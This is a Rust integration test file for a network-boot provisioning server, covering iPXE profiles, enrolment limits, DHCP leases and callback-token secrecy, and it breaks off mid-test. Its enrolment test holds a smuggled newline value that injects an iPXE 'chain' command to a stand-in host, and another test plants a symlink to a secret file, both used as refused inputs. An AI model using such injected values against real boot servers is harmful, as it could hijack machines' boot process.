//! Network boot without a network: `GET /api/2.0/profiles` and the boot files UEFI HTTP
//! Boot fetches (`/boot/`) through `node_app()` with `oneshot`, and the binary's
//! `BootPlanner` called directly, over a real engine on a
//! temporary sled store with the shipped library (Graph.Discovery.Pxe, Graph.InstallOS.PXE).
//! `tests/pxe_boot.rs` boots real firmware against the same code.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::{Duration, Instant};

use axum::Router;
use axum::body::Body;
use axum::extract::ConnectInfo;
use axum::http::{Request, StatusCode, header};
use metalgraph::api::{AppState, node_app};
use metalgraph::boot::{Enrolment, NodeAccess, StorePlanner};
use metalgraph_engine::nodes::{Node, Obm, ObmConfig};
use metalgraph_engine::{ApiUrls, Engine, EngineOptions, ListFilter, RunRequest, WorkflowStatus};
use metalgraph_pxe::{BootPlanner, ClientInfo, Decision, Firmware, Lease, LeaseChange};
use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;
use tower::ServiceExt as _;

#[path = "support/router.rs"]
mod router;
use router::raw;

const NODE_BASE: &str = "http://10.9.0.1:8090/api/2.0";

struct Harness {
    node_app: Router,
    engine: Engine,
    store: std::sync::Arc<dyn metalgraph_store::Store>,
    templates: tempfile::TempDir,
    _dir: tempfile::TempDir,
    _stop: tokio_util::sync::DropGuard,
}

async fn harness() -> Harness {
    harness_with(Setup::default()).await
}

/// How the node-facing API is set up: whether DHCP runs in full mode (leased addresses
/// prove a node), and enrolment.
struct Setup {
    full_dhcp: bool,
    enrolment: Enrolment,
    /// The boot files directory served under `/boot/` (network boot on), if any.
    boot_dir: Option<std::path::PathBuf>,
}

impl Default for Setup {
    fn default() -> Self {
        Setup {
            full_dhcp: false,
            enrolment: Enrolment::new(true, 1000, 1000),
            boot_dir: None,
        }
    }
}

async fn harness_with(setup: Setup) -> Harness {
    let dir = tempfile::tempdir().expect("a temp dir");
    let templates = tempfile::tempdir().expect("a temp dir");
    let store = metalgraph_store::open(metalgraph_store::Backend::Sled, dir.path())
        .expect("the store opens");
    let library = metalgraph::library::library().expect("the library loads");
    let api = ApiUrls {
        base: "http://127.0.0.1:8080/api/2.0".into(),
        node_base: NODE_BASE.into(),
    };
    let mut opts = EngineOptions::new(store.clone(), metalgraph::server::jobs(), library);
    opts.api = api.clone();
    let stop = CancellationToken::new();
    let (engine, _task) = Engine::start(opts, stop.clone());
    let state = AppState {
        templates_dir: Some(templates.path().to_owned()),
        api,
        node_access: if setup.full_dhcp {
            NodeAccess::with_leases(store.clone())
        } else {
            NodeAccess::capability_only()
        },
        enrolment: Arc::new(setup.enrolment),
        boot_dir: setup.boot_dir,
        ..AppState::new(engine.clone(), 64 * 1024).expect("the state")
    };
    Harness {
        node_app: node_app(state),
        engine,
        store,
        templates,
        _dir: dir,
        _stop: stop.drop_guard(),
    }
}

/// Where a request comes from, as the server's accept loop records it.
const ELSEWHERE: &str = "10.9.0.77:40000";

impl Harness {
    /// Puts the shipped `kickstart-callback.ks` into the templates directory.
    fn ship_kickstart(&self) {
        std::fs::write(
            self.templates.path().join("kickstart-callback.ks"),
            include_str!("../templates/kickstart-callback.ks"),
        )
        .unwrap();
    }

    /// `GET uri` on the node-facing API: status, content type, body text.
    async fn get(&self, uri: &str) -> (StatusCode, String, String) {
        self.get_as(uri, None, None).await
    }

    /// `GET uri` from `peer` (as the accept loop records it), with `User-Agent: ua`.
    async fn get_as(
        &self,
        uri: &str,
        peer: Option<&str>,
        ua: Option<&str>,
    ) -> (StatusCode, String, String) {
        let mut req = Request::get(uri);
        if let Some(ua) = ua {
            req = req.header(header::USER_AGENT, ua);
        }
        let mut req = req.body(Body::empty()).expect("a request");
        if let Some(peer) = peer {
            let addr: SocketAddr = peer.parse().expect("an address");
            req.extensions_mut().insert(ConnectInfo(addr));
        }
        let resp = self
            .node_app
            .clone()
            .oneshot(req)
            .await
            .expect("the router answers");
        let status = resp.status();
        let ct = resp
            .headers()
            .get(header::CONTENT_TYPE)
            .map(|v| v.to_str().unwrap_or_default().to_owned())
            .unwrap_or_default();
        let bytes = axum::body::to_bytes(resp.into_body(), usize::MAX)
            .await
            .expect("a body");
        (status, ct, String::from_utf8_lossy(&bytes).into_owned())
    }

    /// The profile URL full DHCP hands `mac` (its boot file name), as a path and query on
    /// the node-facing API: with the node's capability when a task asks for a profile.
    async fn dhcp_url(&self, mac: &str) -> String {
        let planner = StorePlanner::new(self.engine.clone(), self.store.clone(), NODE_BASE);
        let mut c = client(mac);
        c.firmware = Firmware::Ipxe;
        match planner.decide(&c).await {
            Decision::Answer { profile_url, .. } => {
                let path = profile_url
                    .strip_prefix(NODE_BASE)
                    .expect("a node-facing URL");
                format!("/api/2.0{path}")
            }
            other => panic!("DHCP does not answer {mac}: {other:?}"),
        }
    }

    /// The profile script for `query`, which must be a 200 `text/plain` iPXE script.
    async fn profile(&self, query: &str) -> String {
        let (status, ct, body) = self.get(&format!("/api/2.0/profiles?{query}")).await;
        assert_eq!(status, StatusCode::OK, "{body}");
        assert!(ct.starts_with("text/plain"), "{ct}");
        assert!(body.starts_with("#!ipxe\n"), "{body}");
        body
    }

    async fn node(&self, mac: &str, tags: &[&str]) -> Node {
        let node = Node {
            id: String::new(),
            name: format!("node-{mac}"),
            identifiers: vec![mac.to_owned()],
            node_type: "compute".into(),
            tags: tags.iter().map(|t| (*t).to_owned()).collect(),
            obms: vec![Obm {
                service: "sim-obm-service".into(),
                config: ObmConfig {
                    host: "sim".into(),
                    ..ObmConfig::default()
                },
            }],
            created_at: String::new(),
            updated_at: String::new(),
        };
        self.engine
            .nodes()
            .create(node)
            .await
            .expect("the node is created")
    }

    /// Polls until workflow `id`'s task `label` is in `state`.
    async fn wait_task(&self, id: &str, label: &str, state: &str) {
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            let v = self
                .engine
                .get(id)
                .await
                .unwrap()
                .expect("the workflow exists");
            let t = v
                .tasks
                .iter()
                .find(|t| t.label == label)
                .expect("the label");
            if t.state.as_str() == state {
                return;
            }
            assert!(
                Instant::now() < deadline,
                "{label} never became {state}: {v:#?}"
            );
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }

    /// The token of the task waiting on `node`: a wait task registers its waiter when its
    /// job starts, a moment after the task is committed as running.
    async fn waiting_token(&self, node: &str) -> String {
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            if let Some((_, token)) = self.engine.waiting_token(node) {
                return token;
            }
            assert!(Instant::now() < deadline, "no task of {node} waits");
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }

    async fn wait_status(&self, id: &str, status: WorkflowStatus) {
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            let v = self
                .engine
                .get(id)
                .await
                .unwrap()
                .expect("the workflow exists");
            if v.status == status {
                return;
            }
            assert!(Instant::now() < deadline, "never {status:?}: {v:#?}");
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }

    async fn workflows_of(&self, node: &str) -> Vec<metalgraph_engine::WorkflowView> {
        self.engine
            .list(&ListFilter {
                node: Some(node.to_owned()),
                ..Default::default()
            })
            .await
            .unwrap()
    }

    async fn run(&self, graph: &str, node: &str, options: Value) -> String {
        let options = serde_json::from_value(options).expect("run options");
        self.engine
            .run(RunRequest {
                graph: graph.into(),
                node: Some(node.into()),
                options,
            })
            .await
            .expect("the workflow starts")
            .instance_id
    }
}

fn is_local_boot(script: &str) -> bool {
    script == metalgraph_pxe::ipxe::local_boot()
}

#[tokio::test]
async fn an_unknown_machine_becomes_one_node_with_a_catalog_and_a_discovery_workflow() {
    let h = harness().await;
    // Straight from DHCP's boot file name: asked to come back with what iPXE knows.
    let script = h.profile("macs=52:54:00:12:34:01").await;
    assert!(
        script.contains(
            "chain --autofree http://10.9.0.1:8090/api/2.0/profiles?macs=52:54:00:12:34:01\
             &uuid=${uuid}&platform=${platform}&buildarch=${buildarch} || goto failed"
        ),
        "{script}"
    );
    assert!(h.engine.nodes().list().await.unwrap().is_empty());
    let script = h
        .profile(
            "macs=52:54:00:12:34:01&macs=52-54-00-12-34-02&uuid=27946B59-9E44-4FA7-8E91-000000000001\
             &platform=pcbios&buildarch=i386",
        )
        .await;
    assert!(is_local_boot(&script), "{script}");

    let node = h
        .engine
        .nodes()
        .by_identifier("52:54:00:12:34:02")
        .await
        .unwrap()
        .expect("the machine is a node");
    assert_eq!(
        node.identifiers,
        [
            "52:54:00:12:34:01",
            "52:54:00:12:34:02",
            "27946b59-9e44-4fa7-8e91-000000000001"
        ]
    );
    let catalog = &h.engine.nodes().catalogs(&node.id).await.unwrap()[0];
    assert_eq!(catalog["source"], "pxe");
    assert_eq!(
        catalog["data"],
        json!({
            "macs": ["52:54:00:12:34:01", "52:54:00:12:34:02"],
            "uuid": "27946B59-9E44-4FA7-8E91-000000000001",
            "platform": "pcbios",
            "buildarch": "i386",
        })
    );
    let wfs = h.workflows_of(&node.id).await;
    assert_eq!(wfs.len(), 1, "{wfs:#?}");
    assert_eq!(wfs[0].name, "Graph.Discovery.Pxe");
    h.wait_status(&wfs[0].instance_id, WorkflowStatus::Succeeded)
        .await;

    // Asking again, by either MAC, finds the node: no second node, no second discovery.
    for q in ["macs=52:54:00:12:34:01", "mac=52:54:00:12:34:02"] {
        assert!(is_local_boot(&h.profile(q).await));
    }
    assert_eq!(h.engine.nodes().list().await.unwrap().len(), 1);
    assert_eq!(h.workflows_of(&node.id).await.len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn concurrent_first_requests_create_one_node() {
    let h = harness().await;
    let mut asks = tokio::task::JoinSet::new();
    for _ in 0..8 {
        let app = h.node_app.clone();
        asks.spawn(async move {
            let req = Request::get("/api/2.0/profiles?macs=52:54:00:12:34:99&platform=efi")
                .body(Body::empty())
                .expect("a request");
            let resp = app.oneshot(req).await.expect("the router answers");
            assert_eq!(resp.status(), StatusCode::OK);
            let bytes = axum::body::to_bytes(resp.into_body(), usize::MAX)
                .await
                .expect("a body");
            String::from_utf8_lossy(&bytes).into_owned()
        });
    }
    while let Some(script) = asks.join_next().await {
        let script = script.expect("the request task");
        assert!(is_local_boot(&script), "{script}");
    }
    let nodes = h.engine.nodes().list().await.unwrap();
    assert_eq!(nodes.len(), 1, "{nodes:#?}");
    assert_eq!(h.workflows_of(&nodes[0].id).await.len(), 1);
}

#[tokio::test]
async fn the_waiting_install_task_gets_its_rendered_profile_with_the_token() {
    let h = harness().await;
    std::fs::write(
        h.templates.path().join("ks"),
        "# ks for {{ node.id }}\n%post\ncurl '{{ notification.url }}'\n%end\n",
    )
    .unwrap();
    let node = h.node("52:54:00:12:34:10", &[]).await;
    let id = h
        .run(
            "Graph.InstallOS.PXE",
            &node.id,
            json!({"defaults": {
                "kernel": "{{ api.nodeBase }}/../../files/vmlinuz",
                "initrd": "http://10.9.0.1:8090/files/initrd.img",
                "kernelParams": "inst.ks={{ api.nodeBase }}/templates/ks?nodeId={{ node.id }}&cap={{ task.cap }}",
            }}),
        )
        .await;
    let token = h.waiting_token(&node.id).await;
    let cap = h.engine.waiting_task(&node.id).await.expect("it waits").cap;

    // DHCP's boot file name carries the node's capability; the profile it names holds the
    // task's callback, and every URL in it carries the capability on.
    let url = h.dhcp_url("52:54:00:12:34:10").await;
    assert_eq!(
        url,
        format!(
            "/api/2.0/profiles?macs=52:54:00:12:34:10&cap={}",
            cap.as_str()
        )
    );
    let script = h
        .profile(&format!(
            "{}&platform=pcbios",
            &url["/api/2.0/profiles?".len()..]
        ))
        .await;
    assert!(script.contains(&format!("workflow {id}")), "{script}");
    let ks = format!(
        "{NODE_BASE}/templates/ks?nodeId={}&cap={}",
        node.id,
        cap.as_str()
    );
    assert!(
        script.contains(&format!(
            "kernel {NODE_BASE}/../../files/vmlinuz inst.ks={ks} metalgraph.node={} ",
            node.id
        )),
        "{script}"
    );
    let callback = format!(
        "metalgraph.callback={NODE_BASE}/notification?nodeId={}&token={token}",
        node.id
    );
    assert!(script.contains(&callback), "{script}");
    assert!(
        script.contains("initrd http://10.9.0.1:8090/files/initrd.img || goto failed"),
        "{script}"
    );
    // The kickstart that URL names is rendered with the callback.
    let (status, _, body) = h
        .get(ks.strip_prefix("http://10.9.0.1:8090").unwrap())
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(
        body.contains(&format!("nodeId={}&token={token}'", node.id)),
        "{body}"
    );

    // A templates directory file of the same name overrides the shipped profile; iPXE can
    // report with GET.
    std::fs::write(
        h.templates.path().join("install.ipxe"),
        "#!ipxe\nimgfetch {{ notification.url }}\n",
    )
    .unwrap();
    let script = h.profile(&url["/api/2.0/profiles?".len()..]).await;
    let url = script
        .strip_prefix("#!ipxe\nimgfetch ")
        .and_then(|s| s.strip_suffix('\n'))
        .expect("the override is served");
    let path = url.strip_prefix(NODE_BASE).expect("a node-facing URL");
    let (status, _, body) = h.get(&format!("/api/2.0{path}")).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    h.wait_status(&id, WorkflowStatus::Succeeded).await;

    // Finished: the node boots from disk, and the capability opens nothing any more.
    assert!(is_local_boot(&h.profile("macs=52:54:00:12:34:10").await));
    let (status, _, body) = h
        .get(ks.strip_prefix("http://10.9.0.1:8090").unwrap())
        .await;
    assert_eq!(status, StatusCode::CONFLICT, "{body}");
}

/// The answer to a callback: status and body.
async fn notify(h: &Harness, node: &str, token: &str) -> (StatusCode, String) {
    let (status, _, body) = h
        .get(&format!(
            "/api/2.0/notification?nodeId={node}&token={token}"
        ))
        .await;
    (status, body)
}

#[tokio::test]
async fn only_the_node_itself_is_shown_its_callback_token() {
    let h = harness().await;
    h.ship_kickstart();
    let node = h.node("52:54:00:12:34:50", &[]).await;
    let idle = h.node("52:54:00:12:34:51", &[]).await;
    let ks =
        |n: &str, cap: &str| format!("/api/2.0/templates/kickstart-callback.ks?nodeId={n}{cap}");
    // What a node on which nothing waits answers: the baseline every other request must
    // match, so that nobody learns which nodes wait.
    let (idle_status, _, idle_body) = h.get(&ks(&idle.id, "")).await;
    assert_eq!(idle_status, StatusCode::CONFLICT, "{idle_body}");
    let (nothing_status, nothing_body) =
        notify(&h, &idle.id, "0123456789abcdef0123456789abcdef").await;
    assert_eq!(nothing_status, StatusCode::NOT_FOUND, "{nothing_body}");

    let id = h
        .run(
            "Graph.InstallOS.PXE",
            &node.id,
            json!({"defaults": {"kernel": "http://10.9.0.1:8090/files/vmlinuz", "initrd": "http://10.9.0.1:8090/files/initrd.img"}}),
        )
        .await;
    let token = h.waiting_token(&node.id).await;
    let cap = h.engine.waiting_task(&node.id).await.expect("it waits").cap;
    // A capability computed under another key (a guess of the right shape).
    let other_cap = metalgraph_engine::NodeCaps::random().cap(&node.id, &id, "t", &token);

    // Whoever asks without the capability (or with a wrong one, or the other node's MAC
    // with this node's id) gets no token: the profile does not render and the machine is
    // told to retry; the kickstart answers as if nothing waited.
    for (query, peer) in [
        ("macs=52:54:00:12:34:50&platform=pcbios".to_owned(), None),
        ("macs=52:54:00:12:34:50".to_owned(), Some(ELSEWHERE)),
        (
            format!("macs=52:54:00:12:34:50&cap={}", other_cap.as_str()),
            None,
        ),
        (
            format!("macs=52:54:00:12:34:50&cap={}", &cap.as_str()[..31]),
            None,
        ),
    ] {
        let (status, _, script) = h
            .get_as(
                &format!("/api/2.0/profiles?{query}"),
                peer,
                Some("iPXE/1.21.1"),
            )
            .await;
        assert_eq!(status, StatusCode::OK, "{query}: {script}");
        assert!(
            !script.contains(&token) && !script.contains(cap.as_str()),
            "{query}: {script}"
        );
        assert!(
            script.contains("cannot serve this machine's profile"),
            "{query}: {script}"
        );
    }
    for cap_query in ["".to_owned(), format!("&cap={}", other_cap.as_str())] {
        let (status, _, body) = h
            .get_as(&ks(&node.id, &cap_query), Some(ELSEWHERE), None)
            .await;
        assert_eq!(status, idle_status, "{cap_query}: {body}");
        assert!(!body.contains(&token), "{body}");
        assert_eq!(
            body.replace(&node.id, "NODE"),
            idle_body.replace(&idle.id, "NODE"),
            "a waiting node looks like one on which nothing waits"
        );
    }
    // A guessed token is refused exactly like a callback for a node on which nothing waits.
    let (status, body) = notify(&h, &node.id, "0123456789abcdef0123456789abcdef").await;
    assert_eq!(status, nothing_status);
    assert_eq!(
        body.replace(&node.id, "NODE"),
        nothing_body.replace(&idle.id, "NODE"),
        "a wrong token and nothing waiting answer alike"
    );
    let (status, _) = notify(&h, &node.id, cap.as_str()).await;
    assert_eq!(status, nothing_status, "the capability is not the token");

    // With the capability, the token is there and the callback completes the task.
    let (status, _, body) = h
        .get(&ks(&node.id, &format!("&cap={}", cap.as_str())))
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(body.contains(&format!("&token={token}'")), "{body}");
    let (status, body) = notify(&h, &node.id, &token).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    h.wait_status(&id, WorkflowStatus::Succeeded).await;
}

#[tokio::test]
async fn with_full_dhcp_the_leased_address_proves_the_node() {
    let h = harness_with(Setup {
        full_dhcp: true,
        ..Setup::default()
    })
    .await;
    h.ship_kickstart();
    let node = h.node("52:54:00:12:34:60", &[]).await;
    // What full-mode DHCP records when it leases an address (durable before its ACK).
    let planner = StorePlanner::new(h.engine.clone(), h.store.clone(), NODE_BASE);
    let lease = |mac: &str, last, expires_unix| Lease {
        mac: mac.parse().unwrap(),
        ip: Ipv4Addr::new(10, 9, 0, last),
        expires_unix,
    };
    let far = 4_000_000_000;
    planner
        .save_lease(&lease("52:54:00:12:34:60", 160, far))
        .await
        .unwrap();
    planner
        .save_lease(&lease("52:54:00:12:34:61", 161, far))
        .await
        .unwrap();
    planner
        .save_lease(&lease("52:54:00:12:34:62", 162, 1))
        .await
        .unwrap();
    h.run(
        "Graph.InstallOS.PXE",
        &node.id,
        json!({"defaults": {"kernel": "http://10.9.0.1:8090/files/vmlinuz", "initrd": "http://10.9.0.1:8090/files/initrd.img"}}),
    )
    .await;
    let token = h.waiting_token(&node.id).await;
    let ks = format!(
        "/api/2.0/templates/kickstart-callback.ks?nodeId={}",
        node.id
    );

    // From the node's leased address, without a capability: the token is there.
    let (status, _, script) = h
        .get_as(
            "/api/2.0/profiles?macs=52:54:00:12:34:60",
            Some("10.9.0.160:1234"),
            None,
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert!(script.contains(&format!("&token={token}")), "{script}");
    let (status, _, body) = h.get_as(&ks, Some("10.9.0.160:5555"), None).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(body.contains(&format!("&token={token}'")), "{body}");
    // IPv4-mapped, as a listener on [::] sees it.
    let (status, _, _) = h.get_as(&ks, Some("[::ffff:10.9.0.160]:5555"), None).await;
    assert_eq!(status, StatusCode::OK);

    // From another machine's address, an expired lease's, or nowhere known: no token.
    for peer in ["10.9.0.161:1234", "10.9.0.162:1234", ELSEWHERE] {
        let (_, _, script) = h
            .get_as("/api/2.0/profiles?macs=52:54:00:12:34:60", Some(peer), None)
            .await;
        assert!(!script.contains(&token), "{peer}: {script}");
        let (status, _, body) = h.get_as(&ks, Some(peer), None).await;
        assert_eq!(status, StatusCode::CONFLICT, "{peer}: {body}");
    }
}

#[tokio::test]
async fn profiles_follow_the_node_state() {
    let h = harness().await;
    // No work: local boot.
    let idle = h.node("52:54:00:12:34:20", &[]).await;
    assert!(is_local_boot(&h.profile("macs=52:54:00:12:34:20").await));

    // A profile task that has not started yet: retry shortly.
    h.engine
        .definitions()
        .put_graph(
            serde_yaml::from_str(
                "injectableName: Test.Later\ntasks:\n  - {label: first, taskName: Task.Wait.Notification}\n  \
                 - {label: boot, taskName: Task.Noop, waitOn: {first: succeeded}, optionOverrides: {profile: later.ipxe}}\n",
            )
            .unwrap(),
        )
        .await.unwrap();
    let id = h.run("Test.Later", &idle.id, json!({})).await;
    h.wait_task(&id, "first", "running").await;
    let script = h.profile("macs=52:54:00:12:34:20").await;
    assert!(
        script.contains("waiting for task boot of workflow")
            && script.contains("chain --replace --autofree http://10.9.0.1:8090/api/2.0/profiles?macs=52:54:00:12:34:20"),
        "{script}"
    );
    // From the URL DHCP hands out, the retry carries the capability on, so the profile
    // it fetches once the task runs holds the callback.
    let url = h.dhcp_url("52:54:00:12:34:20").await;
    assert!(url.contains("&cap="), "{url}");
    let script = h.profile(&url["/api/2.0/profiles?".len()..]).await;
    assert!(
        script.contains(&format!(
            "chain --replace --autofree http://10.9.0.1:8090{url} "
        )),
        "{script}"
    );

    // A node tagged boot-profile=NAME always gets NAME, rendered without a task.
    std::fs::write(
        h.templates.path().join("diskless.ipxe"),
        "#!ipxe\necho {{ node.name }} {{ profile.name }} {{ client.platform }} {{ task is defined }}\n",
    )
    .unwrap();
    h.node("52:54:00:12:34:21", &["boot-profile=diskless.ipxe"])
        .await;
    let script = h.profile("macs=52:54:00:12:34:21&platform=efi").await;
    assert_eq!(
        script,
        "#!ipxe\necho node-52:54:00:12:34:21 diskless.ipxe efi False\n"
    );

    // A profile that does not render is a retry script, not an error page.
    std::fs::write(
        h.templates.path().join("diskless.ipxe"),
        "#!ipxe\necho {{ nothing.here }}\n",
    )
    .unwrap();
    let script = h.profile("macs=52:54:00:12:34:21").await;
    assert!(
        script.contains("cannot serve this machine's profile"),
        "{script}"
    );

    // No usable MAC: a 400 naming the parameter.
    let (status, _, body) = h.get("/api/2.0/profiles?macs=&uuid=x").await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert!(body.contains("macs"), "{body}");
}

/// How many nodes there are.
async fn node_count(h: &Harness) -> usize {
    h.engine.nodes().list().await.unwrap().len()
}

#[tokio::test]
async fn enrolment_takes_only_machine_macs_a_few_at_a_time() {
    let h = harness().await;
    let first = "/api/2.0/profiles?platform=pcbios&macs=";
    for mac in [
        "ff:ff:ff:ff:ff:ff",
        "01:00:5e:00:00:fb",
        "00-00-00-00-00-00",
    ] {
        let (status, _, body) = h.get(&format!("{first}{mac}")).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{mac}: {body}");
        let shown = mac.replace('-', ":");
        assert!(
            body.contains(&shown) && body.contains("identifies no machine"),
            "{body}"
        );
        // Beside a good MAC, too.
        let (status, _, _) = h.get(&format!("{first}52:54:00:12:38:01,{mac}")).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{mac}");
    }
    let many: Vec<String> = (0..3000)
        .map(|i| format!("52:54:00:13:{:02x}:{:02x}", i / 256, i % 256))
        .collect();
    for n in [17, 3000] {
        let (status, _, body) = h.get(&format!("{first}{}", many[..n].join(","))).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{n}");
        assert!(body.contains("at most 16 MAC addresses"), "{body}");
    }
    for platform in ["efi%0A", "%0Defi", "efi%0Achain%20http://x/y"] {
        let (status, _, body) = h
            .get(&format!(
                "/api/2.0/profiles?macs=52:54:00:12:38:02&platform={platform}"
            ))
            .await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{platform}: {body}");
        assert!(
            body.contains("'platform' holds a control character"),
            "{body}"
        );
    }
    assert_eq!(
        node_count(&h).await,
        0,
        "no refused request enrolled anything"
    );
    // Sixteen are fine.
    let script = h
        .profile(&format!("platform=efi&macs={}", many[..16].join(",")))
        .await;
    assert!(is_local_boot(&script), "{script}");
    assert_eq!(node_count(&h).await, 1);
}

#[tokio::test]
async fn enrolment_keeps_to_its_rate() {
    // Two at once, then one a minute: the third machine within the minute is refused.
    let h = harness_with(Setup {
        enrolment: Enrolment::new(true, 1, 2),
        ..Setup::default()
    })
    .await;
    let ask = |i: u8, ua: Option<&'static str>| {
        let uri = format!("/api/2.0/profiles?macs=52:54:00:12:39:{i:02x}&platform=efi");
        let h = &h;
        async move { h.get_as(&uri, None, ua).await }
    };
    for i in 0..2 {
        let (status, _, script) = ask(i, Some("iPXE/1.21.1")).await;
        assert_eq!(status, StatusCode::OK);
        assert!(is_local_boot(&script), "{script}");
    }
    assert_eq!(node_count(&h).await, 2);
    // iPXE is told to retry later, at the same URL.
    let (status, _, script) = ask(2, Some("iPXE/1.21.1")).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        script.starts_with("#!ipxe\n")
            && script.contains("bounded rate")
            && script.contains("profiles?macs=52:54:00:12:39:02"),
        "{script}"
    );
    // Anyone else gets a 429 saying when to come back.
    let resp = h
        .node_app
        .clone()
        .oneshot(
            Request::get("/api/2.0/profiles?macs=52:54:00:12:39:03&platform=efi")
                .header(header::USER_AGENT, "curl/8.0")
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::TOO_MANY_REQUESTS);
    let after: u32 = resp.headers()[header::RETRY_AFTER]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((1..=60).contains(&after), "{after}");
    assert_eq!(node_count(&h).await, 2, "nothing created over the rate");
    // Known machines are not counted: they are answered as before.
    let (status, _, script) = ask(0, None).await;
    assert_eq!(status, StatusCode::OK);
    assert!(is_local_boot(&script), "{script}");
}

#[tokio::test]
async fn without_enrolment_unknown_machines_boot_locally_and_nothing_is_created() {
    let h = harness_with(Setup {
        enrolment: Enrolment::new(false, 1000, 1000),
        ..Setup::default()
    })
    .await;
    for query in [
        "macs=52:54:00:12:3a:01",
        "macs=52:54:00:12:3a:01&platform=efi&uuid=27946b59-9e44-4fa7-8e91-000000000009",
    ] {
        let script = h.profile(query).await;
        assert!(is_local_boot(&script), "{query}: {script}");
    }
    assert_eq!(node_count(&h).await, 0);
    assert!(
        h.engine
            .list(&ListFilter::default())
            .await
            .unwrap()
            .is_empty()
    );
    // Known nodes are served as before.
    h.node("52:54:00:12:3a:02", &[]).await;
    assert!(is_local_boot(&h.profile("macs=52:54:00:12:3a:02").await));
}

fn client(mac: &str) -> ClientInfo {
    ClientInfo {
        mac: mac.parse().unwrap(),
        firmware: Firmware::Pxe,
        arch: Some(0),
        uuid: None,
        vendor_class: Some("PXEClient:Arch:00000:UNDI:002001".into()),
        user_class: None,
        relay: None,
    }
}

/// The same machine booting over UEFI HTTP Boot.
fn http_client(mac: &str) -> ClientInfo {
    ClientInfo {
        firmware: Firmware::Http,
        arch: Some(16),
        vendor_class: Some("HTTPClient:Arch:00016:UNDI:003000".into()),
        ..client(mac)
    }
}

#[tokio::test]
async fn the_planner_answers_unknown_machines_and_nodes_with_work_only() {
    let h = harness().await;
    let planner = StorePlanner::new(h.engine.clone(), h.store.clone(), NODE_BASE);
    let answer = |mac: &str| Decision::Answer {
        profile_url: format!("{NODE_BASE}/profiles?macs={mac}"),
        reserved: None,
    };

    // How the machine boots (PXE or UEFI HTTP Boot) does not change the decision; the DHCP
    // server turns it into a boot file for the firmware.
    for c in [
        client("52:54:00:12:34:30"),
        http_client("52:54:00:12:34:30"),
    ] {
        assert_eq!(planner.decide(&c).await, answer("52:54:00:12:34:30"));
    }
    // Without enrolment, an unknown machine is not answered: it would only be told to boot
    // from its disk.
    let closed = StorePlanner::new(h.engine.clone(), h.store.clone(), NODE_BASE).enrolling(false);
    let d = closed.decide(&client("52:54:00:12:34:30")).await;
    assert!(
        matches!(&d, Decision::Silent { reason } if reason.contains("enrolment is off")),
        "{d:?}"
    );
    // A group or all-zero MAC identifies no machine.
    for mac in [
        "ff:ff:ff:ff:ff:ff",
        "01:00:5e:00:00:01",
        "00:00:00:00:00:00",
    ] {
        let d = planner.decide(&client(mac)).await;
        assert!(
            matches!(&d, Decision::Silent { reason } if reason.contains("identifies no machine")),
            "{mac}: {d:?}"
        );
    }

    let node = h.node("52:54:00:12:34:31", &["ip=10.9.0.31"]).await;
    for c in [
        client("52:54:00:12:34:31"),
        http_client("52:54:00:12:34:31"),
    ] {
        let d = planner.decide(&c).await;
        assert!(
            matches!(&d, Decision::Silent { reason } if reason.contains("no network-boot work")),
            "{d:?}"
        );
    }
    let id = h
        .run(
            "Graph.InstallOS.PXE",
            &node.id,
            json!({"defaults": {"kernel": "k", "initrd": "i"}}),
        )
        .await;
    // Pending or running, the install task's profile is network-boot work, and the URL
    // carries the node's capability for that task (the same in both states).
    let tasks = h.engine.current_tasks(&node.id).await.unwrap();
    let install = tasks
        .iter()
        .find(|t| t.label == "wait-installed")
        .expect("the install task");
    // The node's `ip=` tag is its reserved address, answered with the decision.
    let with_cap = Decision::Answer {
        profile_url: format!(
            "{NODE_BASE}/profiles?macs=52:54:00:12:34:31&cap={}",
            install.cap.as_str()
        ),
        reserved: Some(Ipv4Addr::new(10, 9, 0, 31)),
    };
    assert_eq!(planner.decide(&client("52:54:00:12:34:31")).await, with_cap);
    h.wait_task(&id, "wait-installed", "running").await;
    assert_eq!(planner.decide(&client("52:54:00:12:34:31")).await, with_cap);
    assert_eq!(
        planner.decide(&http_client("52:54:00:12:34:31")).await,
        with_cap
    );
}

#[tokio::test]
async fn the_boot_files_are_served_over_http_while_network_boot_is_on() {
    let dir = tempfile::tempdir().expect("a temp dir");
    let root = dir.path().join("ipxe");
    std::fs::create_dir_all(&root).unwrap();
    let binary: Vec<u8> = (0..200_000u32).map(|i| (i * 7 + i / 251) as u8).collect();
    std::fs::write(root.join("snponly.efi"), &binary).unwrap();
    std::fs::write(dir.path().join("secret"), "not a boot file").unwrap();
    std::os::unix::fs::symlink(dir.path().join("secret"), root.join("out.efi")).unwrap();

    // Network boot off: nothing under /boot/.
    let off = harness().await;
    let (status, _, body) = raw(&off.node_app, "GET", "/boot/snponly.efi", &[]).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert!(
        String::from_utf8_lossy(&body).contains("network boot is off"),
        "{}",
        String::from_utf8_lossy(&body)
    );

    let h = harness_with(Setup {
        boot_dir: Some(root.clone()),
        ..Setup::default()
    })
    .await;
    let app = &h.node_app;
    // What EDK2's HTTP Boot does: HEAD for the size, then GET.
    let (status, hs, body) = raw(app, "HEAD", "/boot/snponly.efi", &[]).await;
